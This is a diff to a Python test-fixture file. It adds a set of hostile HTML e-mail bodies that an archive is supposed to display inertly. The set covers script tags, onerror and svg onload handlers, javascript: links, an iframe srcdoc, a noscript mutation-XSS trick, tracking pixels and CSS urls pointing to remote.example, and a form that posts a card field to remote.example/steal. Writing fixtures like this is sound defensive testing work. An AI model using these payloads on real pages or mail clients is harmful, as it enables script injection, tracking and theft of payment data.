@@ -168,3 +168,48 @@ def huge_body(size: int = 200_000) -> str:
     """A body of about `size` characters mixing scripts, so it is large in bytes as well."""
     chunk = 'Log line, 日本語, русский, عربى, emoji 👩‍💻, quote " and tab\t end.\r\n'
     return (chunk * (size // len(chunk) + 1))[:size]
+
+
+# HTML bodies that try to run script, reach the network, submit, redirect or change the page:
+# what an archive must show inertly. Each would set the title to "pwned", add an element with id
+# "pwned", or fetch from `remote.example`. (case, markup)
+HOSTILE_HTML_BODIES: tuple[tuple[str, str], ...] = (
+    ("script", "<p>before</p><script>document.title='pwned'</script><p>after</p>"),
+    (
+        "onerror",
+        "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<b id=pwned>')\">",
+    ),
+    ("remote image", '<p>logo:</p><img src="http://remote.example/pixel.png?open=1" alt="logo">'),
+    (
+        "form",
+        '<form action="http://remote.example/steal" method="post"><input name="card">'
+        "<button>Pay</button></form>",
+    ),
+    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://remote.example/">hi'),
+    ("javascript link", "<a href=\"javascript:document.title='pwned'\">open your order</a>"),
+    (
+        "iframe",
+        '<iframe src="http://remote.example/frame" '
+        "srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
+    ),
+    (
+        "css url",
+        '<div style="background:url(http://remote.example/bg.png);color:red">styled</div>'
+        "<style>body{background:url(http://remote.example/style.png)}</style>",
+    ),
+    (
+        "svg script",
+        "<svg onload=\"document.title='pwned'\"><script>document.title='pwned'</script>"
+        '<image href="http://remote.example/svg.png"/></svg>',
+    ),
+    ("base href", '<base href="http://remote.example/"><a href="order">relative link</a>'),
+    (
+        "mutation",
+        "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\"></p>"
+        '</noscript><object data="http://remote.example/o"></object>'
+        '<link rel="stylesheet" href="http://remote.example/x.css">',
+    ),
+)
+# All of them, after the HTML-only e-mail's own body: one message, so that adding them drew
+# nothing from the random stream (every seed's dataset is otherwise the one it was).
+HOSTILE_HTML = "".join(f"<div>{case}: {markup}</div>" for case, markup in HOSTILE_HTML_BODIES)
